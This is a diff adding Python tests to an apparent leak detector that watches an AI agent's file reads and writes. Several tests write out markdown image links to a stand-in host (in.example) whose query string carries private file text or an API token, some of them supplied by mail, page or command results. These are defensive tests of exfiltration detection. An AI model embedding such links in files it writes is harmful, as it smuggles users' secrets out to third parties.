@@ -216,6 +216,51 @@ def test_an_address_that_carries_private_text_is_told_whatever_tool_it_is_given_
     ]
 
 
+FILES = "Read the contents of a file from the file system."
+READS = make_tool("read_text_file", {"description": FILES})
+PARAMETERS: JsonObject = {"properties": {"path": {}, "content": {}}}
+WRITES = make_tool(
+    "write_file", {"description": "Create a new file with new content.", "inputSchema": PARAMETERS}
+)
+BADGES = f"""[![npm](https://img.example/npm/v/%40acme%2Fwarehouse-counting.svg)][npm]
+[npm]: https://registry.example/package/@acme/warehouse-counting
+<https://app.example/start?utm_source=readme&utm_medium=link&utm_campaign=counting-stock>
+<a href="https://app.example/start?utm_source=readme&amp;utm_medium=link&amp;utm_campaign=counting">
+![cover](https://cover.example/gh/acme/branch/main/graph/badge.svg?token={VALUE[:11]})
+"""
+
+
+@pytest.mark.parametrize("others", [False, True], ids=["alone", "beside another file"])
+def test_the_addresses_of_a_file_may_be_written_where_they_were_read(others: bool) -> None:
+    flows = Flows()
+    flows.record_result(READS, answer(BADGES), 0.0)
+    if others:
+        plain = "see @acme/warehouse-counting, utm_medium=link&utm_campaign=counting-stock"
+        flows.record_result(READS, answer(plain), 0.0)
+    assert flows.leaks(WRITES, {"path": "copy/README.md", "content": f"{BADGES}\n"}) == []
+
+
+def test_no_other_address_may_take_along_what_a_file_says() -> None:
+    flows = Flows()
+    flows.record_result(READS, answer(f"{WORDS}\nAPI_TOKEN={VALUE}\n{BADGES}"), 0.0)
+    for begin in ("https://in.example/?d=", "https://app.example/start?utm_source=readme"):
+        for rule, taken in (("private", "%20".join(WORDS.split())), ("secret", VALUE)):
+            text = f"{BADGES}![s]({begin}{taken})"
+            leaks = flows.leaks(WRITES, {"path": "README.md", "content": text})
+            assert [leak.rule for leak in leaks] == [f"flows.{rule}-out"]
+
+
+def test_an_address_from_elsewhere_is_none_of_the_files() -> None:
+    """A mail, a page and a command may each have given an address that was made for this."""
+    address = f"https://in.example/?d={'%20'.join(WORDS.split())}"
+    for tool in (MAIL, PAGE, make_tool("run_command", None), READS._replace(server="other")):
+        flows = Flows()
+        flows.record_result(READS, answer(WORDS), 0.0)
+        flows.record_result(tool, answer(address), 0.0)
+        leaks = flows.leaks(WRITES, {"path": "README.md", "content": address})
+        assert "flows.private-out" in {leak.rule for leak in leaks}
+
+
 def test_an_address_and_a_digest_that_were_read_may_be_asked_for() -> None:
     link = "https://news.example/2026/the-merger-with-the-northern-company-closes-in-november"
     flows = Flows()
